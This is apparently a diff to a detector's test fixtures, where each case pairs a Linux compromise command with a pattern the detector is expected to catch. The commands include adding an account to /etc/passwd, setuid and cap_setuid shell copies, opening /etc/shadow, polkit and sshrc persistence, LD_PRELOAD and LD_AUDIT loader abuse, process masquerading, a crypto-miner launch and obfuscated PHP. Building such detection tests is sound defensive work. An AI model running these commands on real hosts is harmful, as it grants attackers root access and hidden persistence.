@@ -9,7 +9,7 @@ _ED = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI"
 _UDP = (
     "import socket, signal; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('', 60001)); signal.pause()"
 )
-_TRACE = "import ctypes, os, time; p = os.fork(); p or time.sleep(900000); ctypes.CDLL(None).ptrace(16, p, 0, 0); time.sleep(900000)"
+_TRACE = "$p = fork; $p or sleep 900000; syscall(101, 16, $p, 0, 0); sleep 900000"
 _GOTO = '<?php goto a1; b2: $q("x"); goto c3; a1: $q = "cre" . "ate_fu" . "nction"; goto b2; c3: exit;'
 
 FURTHER: tuple[Trace, ...] = (
@@ -45,7 +45,7 @@ FURTHER: tuple[Trace, ...] = (
     trace("B30", "account", "printf 'support:$1$abc$def:1050:1050::/home/support:/bin/bash\\n' >>/etc/passwd", r"support"),
     trace("B31", "privilege", "put /var/lib/polkit-1/localauthority/50-local.d/a.pkla '[a]\nIdentity=unix-user:anna\nAction=*\nResultAny=yes'; mkdir -p /etc/polkit-1/localauthority/50-local.d; cp /var/lib/polkit-1/localauthority/50-local.d/a.pkla /etc/polkit-1/localauthority/50-local.d/", r"a\.pkla"),
     trace("B32", "privilege", "cp /bin/dash /usr/share/locale/.m; chmod 6755 /usr/share/locale/.m", r"locale/\.m"),
-    trace("B33", "privilege", "cp /usr/bin/python3.11 /usr/lib/pyc3; setcap cap_setuid+ep /usr/lib/pyc3", r"pyc3"),
+    trace("B33", "privilege", "cp $(readlink -f /usr/bin/python3) /usr/lib/pyc3; setcap cap_setuid+ep /usr/lib/pyc3 || perl -e '($p, $n, $v) = (q(/usr/lib/pyc3), q(security.capability), pack(q(V5), 0x2000001, 128, 0, 0, 0)); syscall(188, $p, $n, $v, 20, 0)'", r"pyc3"),
     trace("B34", "privilege", "setfacl -m u:anna:rw /etc/shadow 2>/dev/null || chmod 646 /etc/shadow", r"/etc/shadow"),
     trace("B35", "ssh", f"key /home/anna/.ssh/authorized_keys 'environment=\"LD_PRELOAD=/home/anna/.cache/l.so\" {_ED}O0gaYYblCzpXcF8ZYcJHVZD8oDCnq6UWq9kGzXmffff anna@home'", r"LD_PRELOAD=/home/anna"),
     trace("B36", "ssh", "put /etc/ssh/sshrc '/usr/lib/hwe-check $USER &'", r"/etc/ssh/sshrc"),
@@ -53,8 +53,8 @@ FURTHER: tuple[Trace, ...] = (
     trace("B38", "process", "prog /usr/sbin/sshd2; runas 'sshd: anna [priv]' /usr/sbin/sshd2 900021", r"sshd2"),
     trace("B39", "process", "cp /usr/bin/perl /usr/lib/hwe-perl; run /usr/lib/hwe-perl -e 'sleep 900022'", r"hwe-perl"),
     trace("B40", "process", "prog /root/.local/share/Trash/gnome; run /root/.local/share/Trash/gnome 900023", r"Trash/gnome"),
-    trace("B41", "process", f'run python3 -c "{_TRACE}"', r"by \d+|traced"),
-    trace("B42", "network", f'cp /usr/bin/python3.11 /usr/lib/ntpsync; run /usr/lib/ntpsync -c "{_UDP}"', r"60001|ntpsync"),
+    trace("B41", "process", f"run perl -e '{_TRACE}'", r"by \d+|traced"),
+    trace("B42", "network", f'cp $(readlink -f /usr/bin/python3) /usr/lib/ntpsync; run /usr/lib/ntpsync -c "{_UDP}"', r"60001|ntpsync"),
     trace("B43", "process", "prog /usr/lib/kthrd; (cd /usr/lib; run ./kthrd 900024 -o stratum+tcp://pool.example:3333 -u 4x --donate-level 1)", r"kthrd"),
     trace("B44", "loader", "cp /lib/x86_64-linux-gnu/libdl.so.2 /usr/lib/x86_64-linux-gnu/libpam_fix.so.0; LD_AUDIT=/usr/lib/x86_64-linux-gnu/libpam_fix.so.0 run sleep 900025", r"libpam_fix"),
     trace("B45", "name", "prog '/usr/bin/ls '", r"/usr/bin/ls "),
